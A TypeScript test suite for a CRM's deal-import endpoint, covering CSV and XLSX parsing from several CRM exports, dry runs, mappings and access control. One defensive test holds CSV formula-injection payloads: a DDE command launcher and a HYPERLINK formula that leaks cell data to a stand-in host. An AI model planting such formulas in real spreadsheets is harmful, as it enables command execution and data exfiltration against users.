import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Deal } from '../../../core/deals/schemas.js';
import { testDialects } from '../../test/databases.js';
import { countRows } from '../../test/db-inspect.js';
import { buildProject, inviteUser, type Session, signupOwner, startTestApp, type TestApp } from '../../test/harness.js';
import { salesDigest } from '../deals/test-support.js';
import { WORKER_FROM_BYTES } from './deal-rows.js';
import { XLSX_TYPE } from './source.js';

const fixture = (name: string) => fs.readFileSync(path.join(import.meta.dirname, 'fixtures', name));
const CSV = { 'content-type': 'text/csv' };

describe.each(testDialects())('deal import on %s', (dialect) => {
  let t: TestApp;
  let owner: Session;
  let viewer: Session;
  let outsider: Session;

  beforeAll(async () => {
    t = await startTestApp(dialect);
    owner = await signupOwner(t.app, { email: 'olivia.owner@example.com', timeZone: 'Asia/Shanghai' });
    viewer = await inviteUser(t.app, owner, 'member', 'Vic Viewer');
    outsider = await signupOwner(t.app, { workspaceName: 'Elsewhere Ltd' });
  });
  afterAll(() => t?.close());

  const project = async () => {
    const { id } = await buildProject(owner, { name: `Import ${Math.random()}` });
    return id;
  };
  const upload = (projectId: string, query: string, body: Buffer | string, headers: Record<string, string> = CSV, who = owner) =>
    who.request('POST', `/projects/${projectId}/deals/import?${query}`, body, headers);
  const deals = async (projectId: string) =>
    ((await owner.request('GET', `/projects/${projectId}/deals?limit=200&sort=title`)).json().items as Deal[]).map((d) => ({
      title: d.title,
      account: d.accountName,
      amount: d.amount,
      currency: d.currency,
      stage: d.stage,
      probability: d.probability,
      expected: d.expectedCloseDate,
      closed: d.closeDate,
      lostReason: d.lostReason,
      owner: d.ownerId === owner.userId,
    }));

  it('imports a Salesforce opportunity report (US dates, $ amounts, percent probabilities, Closed Won/Lost)', async () => {
    const id = await project();
    const response = await upload(id, 'preset=salesforce', fixture('salesforce-opportunities.csv'));
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({
      dryRun: false,
      total: 10,
      accepted: 6,
      created: 6,
      accountsCreated: 5,
      contactsCreated: 0,
      rejectedTotal: 4,
      rejected: [
        { row: 8, reason: 'bad date "31/31/2027"' },
        { row: 9, reason: 'missing title' },
        { row: 10, reason: 'bad amount "TBD"' },
        { row: 11, reason: 'unknown stage "Signed Off"' },
      ],
      unmappedHeaders: ['Fiscal Period', 'Age', 'Created Date', 'Next Step', 'Type'],
    });
    expect(response.json().columns).toMatchObject({ title: 'Opportunity Name', amount: 'Amount', stage: 'Stage', closeDate: 'Close Date' });
    expect(await deals(id)).toEqual([
      {
        title: 'Acme - 500 Widgets',
        account: 'Acme Corporation',
        amount: 1_250_000,
        currency: 'USD',
        stage: 'lead',
        probability: 0.1,
        expected: '2027-03-31',
        closed: null,
        lostReason: '',
        owner: true,
      },
      {
        title: 'Acme Service Contract',
        account: 'Acme Corporation',
        amount: 2_500_000,
        currency: 'USD',
        stage: 'won',
        probability: 1,
        expected: '2026-12-20',
        closed: '2026-12-20',
        lostReason: '',
        owner: true,
      },
      {
        title: 'Globex Plant Upgrade',
        account: 'Globex',
        amount: 4_800_000,
        currency: 'USD',
        stage: 'qualified',
        probability: 0.2,
        expected: '2027-04-15',
        closed: null,
        lostReason: '',
        owner: true,
      },
      {
        title: 'Hooli Pilot',
        account: 'Hooli',
        amount: 990_000,
        currency: 'USD',
        stage: 'lost',
        probability: 0,
        expected: '2026-11-30',
        closed: '2026-11-30',
        lostReason: '(none given)',
        owner: true,
      },
      {
        title: 'Initech Annual Licenses',
        account: 'Initech',
        amount: 735_050,
        currency: 'USD',
        stage: 'proposal',
        probability: 0.75,
        expected: '2027-02-28',
        closed: null,
        lostReason: '',
        owner: true,
      },
      {
        title: 'Umbrella Renewal 2027',
        account: 'Umbrella Inc.',
        amount: 12_000_000,
        currency: 'USD',
        stage: 'negotiation',
        probability: 0.9,
        expected: '2027-03-15',
        closed: null,
        lostReason: '',
        owner: true,
      },
    ]);
  });

  it('imports a HubSpot deals export (stage labels, 0–1 probabilities, owner by e-mail)', async () => {
    const id = await project();
    const response = await upload(id, 'preset=hubspot', fixture('hubspot-deals.csv'));
    expect(response.json()).toMatchObject({
      total: 10,
      accepted: 7,
      created: 7,
      rejected: [
        { row: 9, reason: 'unknown stage "Negotiating Terms"' },
        { row: 10, reason: 'missing title' },
        { row: 11, reason: 'bad probability "high"' },
      ],
    });
    const rows = await deals(id);
    expect(rows.map((d) => [d.title, d.stage, d.amount, d.currency, d.probability, d.expected, d.closed, d.lostReason])).toEqual([
      ['Contoso Expansion', 'qualified', 1_500_050, 'USD', 0.4, '2027-04-30', null, ''],
      ['Fabrikam Rollout', 'proposal', 800_000, 'EUR', 0.6, '2027-02-15', null, ''],
      ['Litware Closed', 'won', 330_000, 'USD', 1, '2026-12-15', '2026-12-15', ''],
      ['Northwind - Starter Plan', 'lead', 120_000, 'USD', 0.2, '2027-03-31', null, ''],
      ['Proseware Trial', 'lost', 150_000, 'USD', 0, '2026-12-01', '2026-12-01', 'Went with competitor'],
      ['Tailspin Toys Renewal', 'negotiation', 2_200_000, 'USD', 0.8, '2027-02-01', null, ''],
      ['Wingtip Annual', 'contract', 540_000, 'USD', 0.9, '2027-01-31', null, ''],
    ]);
    expect(rows.every((d) => d.owner)).toBe(true);
  });

  it('imports a Pipedrive deals export (status Open/Won/Lost, won and lost times, contact persons)', async () => {
    const id = await project();
    const response = await upload(id, 'preset=pipedrive', fixture('pipedrive-deals.csv'));
    expect(response.json()).toMatchObject({
      total: 10,
      accepted: 7,
      accountsCreated: 7,
      contactsCreated: 4,
      rejected: [
        { row: 9, reason: 'bad amount: negative "-500"' },
        { row: 10, reason: 'unknown status "Deleted"' },
        { row: 11, reason: 'bad date "2027-02-30"' },
      ],
    });
    const rows = await deals(id);
    expect(rows.map((d) => [d.title, d.stage, d.amount, d.currency, d.probability, d.expected, d.closed, d.lostReason])).toEqual([
      ['Falcon deal', 'lost', 300_000, 'EUR', null, '2027-01-20', '2027-01-12', 'Price too high'],
      ['Harbor Freight deal', 'proposal', 880_000, 'EUR', null, null, null, ''],
      ['Kestrel deal', 'proposal', 1_200_000, 'USD', null, '2027-02-20', null, ''],
      ['Moss Consulting deal', 'lead', 2_500_000, 'EUR', null, '2027-03-31', null, ''],
      ['Orchid deal', 'negotiation', 6_100_000, 'EUR', 0.8, '2027-01-31', null, ''],
      ['Riverside deal', 'qualified', 430_050, 'EUR', 0.3, '2027-04-15', null, ''],
      ['Summit deal', 'won', 1_550_000, 'EUR', null, '2027-01-10', '2027-01-08', ''],
    ]);
    const contacts = (await owner.request('GET', '/contacts?q=moss')).json().items;
    expect(contacts).toMatchObject([{ name: 'Anna Moss', accountName: 'Moss Consulting' }]);
  });

  it('reads a GBK-encoded CSV from Chinese Excel (Chinese headers, ￥ and 万 amounts, Chinese dates and stages)', async () => {
    const id = await project();
    const response = await upload(id, 'preset=generic', fixture('generic-gbk.csv'));
    expect(response.json()).toMatchObject({ total: 5, accepted: 4, rejected: [{ row: 5, reason: 'bad amount "面议"' }] });
    const rows = (await deals(id)).sort((a, b) => a.amount - b.amount);
    expect(rows.map((d) => [d.title, d.account, d.amount, d.stage, d.expected])).toEqual([
      ['宁波包装数据采集', '宁波远洋包装材料厂', 32_000_000, 'won', '2027-01-10'],
      ['杭州门店巡检系统', '杭州云帆零售集团', 56_500_000, 'qualified', '2027-04-15'],
      ['华东区工厂数字化改造', '上海精工机械股份有限公司', 128_000_000, 'proposal', '2027-03-31'],
      ['苏州新工厂MES', '苏州新锐电子科技有限公司', 230_000_000, 'negotiation', '2027-02-28'],
    ]);
  });

  it('keeps formula-like cells as text (exports neutralize them) and rejects a formula where a number belongs', async () => {
    const id = await project();
    const response = await upload(id, '', fixture('formula-injection.csv'));
    expect(response.json()).toMatchObject({ total: 5, accepted: 4, rejected: [{ row: 6, reason: 'bad amount "=1+1"' }] });
    expect((await deals(id)).map((d) => [d.title, d.account])).toEqual([
      ["+SUM(1+1)*cmd|' /C calc'!A0", '@Risky Ltd'],
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', 'Evil Corp'],
      ['@SUM(A1:A9)', 'Plain Co'],
      ['Honest deal', '=1+1'],
    ]);
  });

  it('checks everything and writes nothing on a dry run; the real run then writes the same rows in one go', async () => {
    const id = await project();
    const before = await salesDigest(t.database.db);
    const dry = await upload(id, 'preset=pipedrive&dryRun=true', fixture('pipedrive-deals.csv'));
    expect(dry.json()).toMatchObject({ dryRun: true, total: 10, accepted: 7, created: 0, accountsCreated: 0 });
    expect(await salesDigest(t.database.db)).toEqual(before);
    const audits = await countRows(t.database.db, 'audit_log');
    const history = await countRows(t.database.db, 'deal_stage_history');
    const real = await upload(id, 'preset=pipedrive&dryRun=false', fixture('pipedrive-deals.csv'));
    expect(real.json().rejected).toEqual(dry.json().rejected);
    expect(await countRows(t.database.db, 'audit_log')).toBe(audits + 1);
    expect(await countRows(t.database.db, 'deal_stage_history')).toBe(history + 7);
    const audit = await t.database.db
      .selectFrom('audit_log')
      .selectAll()
      .where('entity_type', '=', 'import')
      .where('project_id', '=', id)
      .executeTakeFirstOrThrow();
    expect(JSON.parse(audit.after_json as string)).toMatchObject({ kind: 'deals', preset: 'pipedrive', created: 7, rejected: 3 });
    // The same organizations again: matched, not created twice.
    const again = await upload(id, 'preset=pipedrive', fixture('pipedrive-deals.csv'));
    expect(again.json()).toMatchObject({ created: 7, accountsCreated: 0, contactsCreated: 0 });
  });

  it('reads XLSX (dates and numbers as Excel stores them, the first sheet) and a UTF-8 file with BOM and semicolons', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Deals');
    sheet.addRow(['Deal Name', 'Deal Stage', 'Close Date', 'Amount', 'Currency', 'Deal probability', 'Associated Company']);
    sheet.addRow(['XLSX one', 'Contract Sent', new Date(Date.UTC(2027, 2, 31)), 12500.5, 'USD', 0.9, 'Sheet Co']);
    sheet.addRow([
      'XLSX two',
      'Closed Won',
      new Date(Date.UTC(2026, 11, 1)),
      300,
      'JPY',
      1,
      { richText: [{ text: 'Rich ' }, { text: 'Text KK' }] },
    ]);
    sheet.addRow(['XLSX three', 'Closed Lost', 'not a date', 5, 'USD', 0, 'Sheet Co']);
    sheet.addRow([{ formula: '"XLSX "&"four"', result: 'XLSX four' }, 'Qualified To Buy', null, 7, 'USD', null, null]);
    workbook.addWorksheet('Ignored').addRow(['Deal Name']);
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const id = await project();
    const response = await upload(id, 'preset=hubspot', buffer, { 'content-type': XLSX_TYPE });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ total: 4, accepted: 3, rejected: [{ row: 4, reason: 'bad date "not a date"' }] });
    expect((await deals(id)).map((d) => [d.title, d.account, d.amount, d.currency, d.stage, d.expected])).toEqual([
      ['XLSX four', null, 700, 'USD', 'qualified', null],
      ['XLSX one', 'Sheet Co', 1_250_050, 'USD', 'contract', '2027-03-31'],
      ['XLSX two', 'Rich Text KK', 300, 'JPY', 'won', '2026-12-01'],
    ]);
    const semicolons = `\uFEFFTitle;Amount;Stage\n"Semi; colon";"1.234,50";proposal\n`;
    const second = await project();
    const csv = await upload(second, 'preset=generic', semicolons, { 'content-type': 'text/csv; charset=utf-8' });
    expect(csv.json()).toMatchObject({ accepted: 1 });
    expect((await deals(second))[0]).toMatchObject({ title: 'Semi; colon', amount: 123_450, stage: 'proposal' });
  });

  it('imports a file large enough to be read in a worker thread, and writes nothing when its last line is malformed', async () => {
    const note = 'n'.repeat(340);
    const lines = ['Title,Amount,Stage,Comment'];
    for (let i = 0; i < 3_200; i++) lines.push(`Large ${String(i).padStart(4, '0')},${i % 1_000 === 999 ? 'n/a' : i},proposal,${note}`);
    const file = `${lines.join('\n')}\n`;
    expect(Buffer.byteLength(file)).toBeGreaterThan(WORKER_FROM_BYTES);
    const id = await project();
    const response = await upload(id, 'preset=generic', file);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({
      total: 3_200,
      accepted: 3_197,
      created: 3_197,
      rejected: [999, 1_999, 2_999].map((i) => ({ row: i + 2, reason: 'bad amount "n/a"' })),
    });
    const page = (await owner.request('GET', `/projects/${id}/deals?limit=3&sort=title`)).json().items as Deal[];
    expect(page.map((d) => [d.title, d.amount, d.stage])).toEqual([
      ['Large 0000', 0, 'proposal'],
      ['Large 0001', 100, 'proposal'],
      ['Large 0002', 200, 'proposal'],
    ]);
    const other = await project();
    const before = await salesDigest(t.database.db);
    const broken = await upload(other, 'preset=generic', `${file}"unclosed,1\n`);
    expect(broken.statusCode, broken.body).toBe(400);
    expect(await salesDigest(t.database.db)).toEqual(before);
  });

  it('takes a column and stage mapping that overrides the preset', async () => {
    const id = await project();
    const file = 'Opportunity,Value (CNY),Phase\nMapped deal,"8,800",Early\nOther,1,Unknown phase\n';
    const mapping = encodeURIComponent(
      JSON.stringify({ title: 'Opportunity', amount: 'Value (CNY)', stage: 'Phase', stages: { Early: 'qualified' } }),
    );
    const response = await upload(id, `mapping=${mapping}`, file);
    expect(response.json()).toMatchObject({ accepted: 1, rejected: [{ row: 3, reason: 'unknown stage "Unknown phase"' }] });
    expect((await deals(id))[0]).toMatchObject({ title: 'Mapped deal', amount: 880_000, stage: 'qualified' });
    const missing = await upload(id, `mapping=${encodeURIComponent(JSON.stringify({ title: 'Nope' }))}`, file);
    expect(missing.statusCode).toBe(422);
    expect(missing.json().error.details).toMatchObject({ missing: ['Nope'] });
    const badStage = await upload(id, `mapping=${encodeURIComponent(JSON.stringify({ stages: { Early: 'nosuch' } }))}`, file);
    expect(badStage.statusCode).toBe(422);
    expect((await upload(id, 'mapping=%7Bnot-json', file)).json().error.details[0].path).toBe('mapping');
  });

  it('refuses what is not a usable file: JSON (415), no title column (422), malformed CSV or XLSX (400), writing nothing', async () => {
    const id = await project();
    const before = await salesDigest(t.database.db);
    expect((await owner.request('POST', `/projects/${id}/deals/import`, { title: 'x' })).statusCode).toBe(415);
    expect((await owner.request('POST', `/projects/${id}/deals/import`)).statusCode).toBe(415);
    expect((await upload(id, '', 'Name,Amount\nx,1\n')).statusCode).toBe(200);
    expect((await upload(id, 'preset=salesforce', 'Foo,Bar\nx,1\n')).statusCode).toBe(422);
    expect((await upload(id, '', '')).statusCode).toBe(422);
    expect((await upload(id, '', 'Title,Amount\n"unclosed,1\n')).statusCode).toBe(400);
    expect((await upload(id, '', Buffer.from('PK not really a zip'), { 'content-type': XLSX_TYPE })).statusCode).toBe(400);
    expect((await upload(id, 'preset=oracle', 'Title\nx\n')).statusCode).toBe(400);
    // A member who only views the project, and another workspace.
    await owner.request('POST', `/projects/${id}/members`, { userId: viewer.userId, role: 'viewer' });
    expect((await upload(id, '', 'Title\nx\n', CSV, viewer)).statusCode).toBe(403);
    expect((await upload(id, '', 'Title\nx\n', CSV, outsider)).statusCode).toBe(404);
    const after = await salesDigest(t.database.db);
    // Only the one valid upload above ("Name" is one of the generic preset's title headers) wrote.
    expect(after.deals).not.toEqual(before.deals);
    expect((await deals(id)).map((d) => d.title)).toEqual(['x']);
  });
});
